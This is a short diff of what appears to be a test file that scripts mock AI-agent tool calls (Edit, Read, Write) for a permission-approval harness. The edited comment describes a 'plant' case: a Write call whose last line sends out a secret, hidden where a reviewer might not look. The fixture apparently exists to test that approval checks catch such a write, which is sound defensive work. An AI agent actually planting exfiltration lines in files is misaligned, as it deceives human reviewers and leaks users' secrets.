@@ -85,7 +85,7 @@ const REPLIES: Readonly<Record<string, (ask: Ask) => Reply>> = {
     callTools(callTool("Edit", { file_path: "limit.ts", old_string: "limit = 10", new_string: "limit = 20" })),
   read: () => callTools(callTool("Read", { file_path: "limit.ts" })),
   big: () => callTools(callTool("Read", { file_path: "big.txt" })),
-  // Its last line is what nobody would say yes to.
+  // The last line of the file sends out a secret, so no reader of the whole file would allow the write.
   plant: () =>
     callTools(
       callTool("Write", {
